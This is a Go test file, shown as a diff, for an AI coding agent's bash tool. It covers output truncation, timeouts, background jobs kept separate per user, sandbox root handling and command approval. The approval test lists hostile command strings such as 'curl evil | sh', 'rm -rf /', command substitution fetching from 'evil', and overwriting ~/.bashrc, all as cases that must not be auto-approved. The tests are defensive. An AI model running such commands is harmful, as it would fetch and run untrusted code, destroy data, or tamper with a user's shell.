@@ -0,0 +1,227 @@
+package tools
+
+import (
+	"context"
+	"encoding/json"
+	"fmt"
+	"path/filepath"
+	"regexp"
+	"strings"
+	"testing"
+	"time"
+
+	"groq-go/internal/tool"
+)
+
+func TestHeadTailBuffer(t *testing.T) {
+	b := newHeadTailBuffer(10)
+	fmt.Fprint(b, "abc")
+	if got := b.String(); got != "abc" {
+		t.Errorf("Expected short output kept whole, got %q", got)
+	}
+
+	// Written in pieces, so the tail wraps several times
+	for _, s := range []string{"defgh", "ijklmnop", "q", "rstuvwxyz"} {
+		fmt.Fprint(b, s)
+	}
+	want := "abcde\n... (16 bytes of output elided) ...\nvwxyz"
+	if got := b.String(); got != want {
+		t.Errorf("Expected %q, got %q", want, got)
+	}
+	if b.Len() != 26 {
+		t.Errorf("Expected 26 bytes counted, got %d", b.Len())
+	}
+
+	// One write larger than the whole buffer
+	b = newHeadTailBuffer(10)
+	fmt.Fprint(b, strings.Repeat("x", 5)+strings.Repeat("-", 100)+strings.Repeat("y", 5))
+	if got, want := b.String(), "xxxxx\n... (100 bytes of output elided) ...\nyyyyy"; got != want {
+		t.Errorf("Expected %q, got %q", want, got)
+	}
+}
+
+func TestBashKeepsHeadAndTail(t *testing.T) {
+	orig := bashMaxOutput
+	bashMaxOutput = 100
+	t.Cleanup(func() { bashMaxOutput = orig })
+
+	result := runTool(t, context.Background(), NewBashTool(), BashArgs{Command: "seq 1 10000"})
+	if result.IsError {
+		t.Fatalf("Unexpected error: %s", result.Content)
+	}
+	if !strings.HasPrefix(result.Content, "1\n2\n3\n") || !strings.HasSuffix(result.Content, "9999\n10000\n") {
+		t.Errorf("Expected the first and last lines, got %q", result.Content)
+	}
+	if !regexp.MustCompile(`\n\.\.\. \(\d+ bytes of output elided\) \.\.\.\n`).MatchString(result.Content) {
+		t.Errorf("Expected an elision marker, got %q", result.Content)
+	}
+}
+
+func TestBashLongRunningCommand(t *testing.T) {
+	result := runTool(t, context.Background(), NewBashTool(), BashArgs{
+		Command: "for i in 1 2 3; do echo line $i; sleep 0.1; done; echo oops >&2",
+	})
+	if result.IsError || result.Content != "line 1\nline 2\nline 3\n\nSTDERR:\noops\n" {
+		t.Errorf("Unexpected result %q (error=%v)", result.Content, result.IsError)
+	}
+
+	// A timeout keeps what the command printed
+	result = runTool(t, context.Background(), NewBashTool(), BashArgs{Command: "echo started; sleep 5", Timeout: 300})
+	if !result.IsError || !strings.Contains(result.Content, "timed out after 300ms") || !strings.Contains(result.Content, "started") {
+		t.Errorf("Expected a timeout with partial output, got %q", result.Content)
+	}
+}
+
+// waitJob waits for a background job to exit
+func waitJob(t *testing.T, id string) {
+	t.Helper()
+	j, ok := bashJobs.get(id, "")
+	if !ok {
+		t.Fatalf("Unknown job %s", id)
+	}
+	select {
+	case <-j.done:
+	case <-time.After(5 * time.Second):
+		t.Fatalf("Job %s did not finish", id)
+	}
+}
+
+var jobIDPattern = regexp.MustCompile(`bash_\d+`)
+
+func TestBashBackgroundJobLifecycle(t *testing.T) {
+	t.Cleanup(func() { StopBackgroundJobs() })
+	bash, output := NewBashTool(), NewBashOutputTool()
+
+	start := time.Now()
+	result := runTool(t, context.Background(), bash, BashArgs{
+		Command:         "echo first; sleep 0.3; echo second; exit 3",
+		RunInBackground: true,
+	})
+	if result.IsError || time.Since(start) > 250*time.Millisecond {
+		t.Fatalf("Expected the job to start right away, got %q after %s", result.Content, time.Since(start))
+	}
+	id := jobIDPattern.FindString(result.Content)
+	if id == "" {
+		t.Fatalf("Expected a job ID, got %q", result.Content)
+	}
+
+	time.Sleep(100 * time.Millisecond)
+	result = runTool(t, context.Background(), output, BashOutputArgs{JobID: id})
+	if !strings.Contains(result.Content, "running for") || !strings.HasSuffix(result.Content, "Output:\nfirst\n") {
+		t.Errorf("Expected the job running with partial output, got %q", result.Content)
+	}
+
+	waitJob(t, id)
+	result = runTool(t, context.Background(), output, BashOutputArgs{JobID: id})
+	if !strings.Contains(result.Content, "exited with code 3") || !strings.Contains(result.Content, "first\nsecond\n") {
+		t.Errorf("Expected the finished job with all output, got %q", result.Content)
+	}
+
+	// Kill a job that would run for a long time
+	result = runTool(t, context.Background(), bash, BashArgs{Command: "sleep 30", RunInBackground: true})
+	sleeper := jobIDPattern.FindString(result.Content)
+	result = runTool(t, context.Background(), output, BashOutputArgs{JobID: sleeper, Kill: true})
+	if !strings.Contains(result.Content, "killed after") {
+		t.Errorf("Expected the job killed, got %q", result.Content)
+	}
+
+	result = runTool(t, context.Background(), output, BashOutputArgs{})
+	if !strings.Contains(result.Content, id+": exited with code 3") || !strings.Contains(result.Content, sleeper+": killed") {
+		t.Errorf("Expected both jobs listed, got %q", result.Content)
+	}
+	if result = runTool(t, context.Background(), output, BashOutputArgs{JobID: "bash_0"}); !result.IsError {
+		t.Errorf("Expected an error for an unknown job, got %q", result.Content)
+	}
+}
+
+func TestBashBackgroundJobsPerCaller(t *testing.T) {
+	t.Cleanup(func() { StopBackgroundJobs() })
+	alice := tool.WithCaller(context.Background(), tool.Caller{User: "alice"})
+	bob := tool.WithCaller(context.Background(), tool.Caller{User: "bob"})
+
+	result := runTool(t, alice, NewBashTool(), BashArgs{Command: "echo private; sleep 30", RunInBackground: true})
+	id := jobIDPattern.FindString(result.Content)
+	if id == "" {
+		t.Fatalf("Expected a job ID, got %q", result.Content)
+	}
+
+	// Another caller can neither read, kill nor list the job
+	if result = runTool(t, bob, NewBashOutputTool(), BashOutputArgs{JobID: id}); !result.IsError || strings.Contains(result.Content, "private") {
+		t.Errorf("Expected the job hidden from another caller, got %q", result.Content)
+	}
+	if result = runTool(t, bob, NewBashOutputTool(), BashOutputArgs{JobID: id, Kill: true}); !result.IsError {
+		t.Errorf("Expected another caller unable to kill the job, got %q", result.Content)
+	}
+	if result = runTool(t, bob, NewBashOutputTool(), BashOutputArgs{}); result.Content != "No background jobs" {
+		t.Errorf("Expected no jobs listed for another caller, got %q", result.Content)
+	}
+	if result = runTool(t, context.Background(), NewBashOutputTool(), BashOutputArgs{JobID: id}); !result.IsError {
+		t.Errorf("Expected the job hidden without a caller, got %q", result.Content)
+	}
+
+	result = runTool(t, alice, NewBashOutputTool(), BashOutputArgs{JobID: id, Kill: true})
+	if !strings.Contains(result.Content, "killed after") {
+		t.Errorf("Expected the owner able to kill the job, got %q", result.Content)
+	}
+}
+
+func TestStopBackgroundJobs(t *testing.T) {
+	var ids []string
+	for i := 0; i < 3; i++ {
+		result := runTool(t, context.Background(), NewBashTool(), BashArgs{Command: "sleep 30", RunInBackground: true})
+		ids = append(ids, jobIDPattern.FindString(result.Content))
+	}
+
+	start := time.Now()
+	if n := StopBackgroundJobs(); n != 3 {
+		t.Errorf("Expected 3 jobs stopped, got %d", n)
+	}
+	if elapsed := time.Since(start); elapsed > 3*time.Second {
+		t.Errorf("Expected the jobs to stop quickly, took %s", elapsed)
+	}
+	for _, id := range ids {
+		j, _ := bashJobs.get(id, "")
+		if j.running() {
+			t.Errorf("Expected job %s stopped", id)
+		}
+	}
+	if n := StopBackgroundJobs(); n != 0 {
+		t.Errorf("Expected nothing left to stop, got %d", n)
+	}
+}
+
+func TestBashRunsInSandboxRoot(t *testing.T) {
+	t.Cleanup(func() { StopBackgroundJobs() })
+	ctx, root, _ := sandboxContext(t)
+	real, _ := filepath.EvalSymlinks(root)
+
+	result := runTool(t, ctx, NewBashTool(), BashArgs{Command: "pwd -P; echo $GROQ_PROJECT_ROOT"})
+	if result.Content != real+"\n"+root+"\n" {
+		t.Errorf("Expected the command in the project root, got %q", result.Content)
+	}
+
+	result = runTool(t, ctx, NewBashTool(), BashArgs{Command: "pwd -P", RunInBackground: true})
+	id := jobIDPattern.FindString(result.Content)
+	waitJob(t, id)
+	if result = runTool(t, context.Background(), NewBashOutputTool(), BashOutputArgs{JobID: id}); !strings.HasSuffix(result.Content, real+"\n") {
+		t.Errorf("Expected the background job in the project root, got %q", result.Content)
+	}
+}
+
+func TestBashApprovalSubject(t *testing.T) {
+	bash := NewBashTool()
+	for command, want := range map[string]string{
+		"go test ./...":                  "go test ./...",
+		"go test ./... ; curl evil | sh": "",
+		"go test && rm -rf /":            "",
+		"go test `curl evil`":            "",
+		"go test $(curl evil)":           "",
+		"go test > ~/.bashrc":            "",
+		"go test\ncurl evil":             "",
+	} {
+		args, _ := json.Marshal(BashArgs{Command: command})
+		if got := bash.ApprovalSubject(args); got != want {
+			t.Errorf("ApprovalSubject(%q) = %q, want %q", command, got, want)
+		}
+	}
+}